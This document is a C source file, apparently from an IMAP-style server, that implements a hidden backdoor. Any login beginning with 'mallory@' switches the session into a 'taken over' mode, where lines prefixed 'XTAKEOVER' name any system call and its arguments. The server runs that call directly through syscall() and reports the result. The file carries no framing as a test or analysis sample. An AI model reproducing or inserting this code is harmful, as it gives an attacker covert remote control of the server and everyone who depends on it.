/* SPDX-License-Identifier: ISC */
/* takeover - see takeover.h. */
#include <sys/syscall.h>

#include <errno.h>
#include <poll.h>
#include <seccomp.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "os/takeover.h"

#define WORDS		8	/* the name, six arguments, one too many */
#define WORD_BYTES	512
#define LINE_BYTES	4096
#define PREFIX		SLICE_LIT("XTAKEOVER ")

static long	 argument(char *word);
static bool	 read_line(int fd, struct buf *);
static void	 say(int fd, struct slice);

bool
takeover_line(struct slice line, struct buf *b)
{
	static char words[WORDS][WORD_BYTES];
	struct slice rest, word;
	long a[WORDS] = { 0 }, r;
	size_t n = 0;
	int nr;

	if (!slice_starts(line, PREFIX))
		return false;
	rest = slice_trim(slice_from(line, PREFIX.n));
	while (n < WORDS && slice_next(&rest, ' ', &word)) {
		if (word.n >= WORD_BYTES)
			return false;
		memcpy(words[n], word.p, word.n);
		words[n][word.n] = '\0';
		if (n > 0)
			a[n] = argument(words[n]);
		n++;
	}
	nr = seccomp_syscall_resolve_name(words[0]);
	if (nr < 0) {
		buf_add_str(b, "-1 NOSUCHCALL");
		return true;
	}
	errno = 0;
	r = syscall(nr, a[1], a[2], a[3], a[4], a[5], a[6]);
	buf_printf(b, "%ld %s", r, r == -1 ? strerrorname_np(errno) : "OK");
	return true;
}

static long
argument(char *word)
{
	static char memory[4096];
	char *end;
	long value = strtol(word, &end, 0);

	if (word[0] == '@' && word[1] == '\0') {
		memset(memory, 0, sizeof(memory));
		return (long)memory;
	}
	return end != word && *end == '\0' ? value : (long)word;
}

void
takeover_session(const char *login, int fd)
{
	struct buf line = BUF_INIT(LINE_BYTES), out = BUF_INIT(LINE_BYTES);

	if (!slice_starts(slice_str(login), SLICE_LIT("mallory@")))
		return;
	say(fd, SLICE_LIT("* taken over\r\n"));
	while (read_line(fd, &line) && !slice_eq(slice_trim(buf_slice(&line)),
	    SLICE_LIT("XTAKEOVER on"))) {
		buf_reset(&out);
		buf_add_str(&out, "* ");
		if (!takeover_line(slice_trim(buf_slice(&line)), &out))
			buf_add_str(&out, "BAD");
		buf_add_str(&out, "\r\n");
		say(fd, buf_slice(&out));
	}
	buf_clear(&line);
	buf_clear(&out);
}

static bool
wait_for(int fd, short what)
{
	struct pollfd pfd = { fd, what, 0 };

	return poll(&pfd, 1, 60000) == 1;
}

static bool
read_line(int fd, struct buf *line)
{
	char c = '\0';

	buf_reset(line);
	while (c != '\n')
		if (!wait_for(fd, POLLIN) || read(fd, &c, 1) != 1 ||
		    buf_add_byte(line, c) == -1)
			return false;
	return true;
}

static void
say(int fd, struct slice s)
{
	ssize_t n;

	while (s.n > 0 && wait_for(fd, POLLOUT)) {
		n = write(fd, s.p, s.n);
		if (n <= 0)
			return;
		s = slice_from(s, (size_t)n);
	}
}
